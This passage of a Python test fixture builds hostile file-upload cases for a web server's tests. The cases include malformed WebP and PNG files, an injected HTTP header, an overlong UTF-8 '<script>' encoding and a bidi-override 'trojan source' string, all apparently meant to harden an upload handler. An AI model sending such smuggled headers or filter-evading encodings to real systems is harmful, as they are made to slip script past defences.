    "length-of-4-gib.webp": WHOLE_WEBP[:4] + b"\xff\xff\xff\xff" + WHOLE_WEBP[8:],
    "length-of-0.webp": WHOLE_WEBP[:4] + bytes(4) + WHOLE_WEBP[8:],
    "chunk-of-4-gib.webp": riff((b"VP8L", b"")) .replace(b"VP8L\0\0\0\0", b"VP8L\xff\xff\xff\xff"),
    "noise.png": WHOLE_PNG[:33] + bytes(range(256)) * 40,
    "noise.webp": riff((b"VP8L", b"\x2f" + bytes(range(256)) * 40)),
    "empty": b"",
    "one-byte": b"<",
    "one-nul": b"\0",
    "only-nul": bytes(10_000),
    "only-ff": b"\xff" * 10_000,
    "only-bom": b"\xef\xbb\xbf",
    "only-newlines": b"\r\n" * 5000,
    "ends-like-a-form": b"x\r\n--",
    "begins-like-a-form": b"--x\r\nContent-Disposition: form-data; name=\"file\"\r\n\r\n",
    "headers": f"Content-Type: text/html\r\n{INJECTED}: 1\r\n\r\n".encode() + PAGE,
    "lone-surrogate.txt": b"a\xed\xa0\x80b",
    "overlong.txt": b"\xc0\xbcscript\xc0\xbe",
    "beyond-unicode.txt": b"\xf4\x90\x80\x80",
    "controls.txt": bytes(range(1, 32)) + b"\x7f",
    "bidi.txt": "if access \u202e\u2066// check\u2069\u2066".encode(),
    "one-line.txt": b"x" * 1_000_000,
}  # fmt: skip


def declared(name: str) -> str:
    """Return the type that a liar gives to a file: what makes most of it."""
    ending = name.rpartition(".")[2]
    return {"png": "image/png", "jpg": "image/jpeg", "gif": "image/gif", "webp": "image/webp",
            "svg": "image/svg+xml", "pdf": "application/pdf"}.get(ending, "text/html")  # fmt: skip


HOSTILE_NAMES = [
    *(HostileFile(f"name: {case}", name, "text/html", SCRIPT) for case, name in NAMES.items()),
    *(
        HostileFile(f"disposition: {case}", "", "text/html", SCRIPT, disposition)
        for case, disposition in DISPOSITIONS.items()
    ),
]
HOSTILE_TYPES = [
    HostileFile(f"type: {case}", "a.html", declared_type, PAGE)
    for case, declared_type in TYPES.items()
]
HOSTILE_CONTENTS = [
    HostileFile(f"{kind}: {name}", name, declared(name), content)
    for kind, contents in (
        ("active", ACTIVE),
        ("polyglot", POLYGLOTS),
        ("bomb", BOMBS),
        ("broken", BROKEN),
    )
    for name, content in contents.items()
]
FILES: list[HostileFile] = [*HOSTILE_NAMES, *HOSTILE_TYPES, *HOSTILE_CONTENTS]
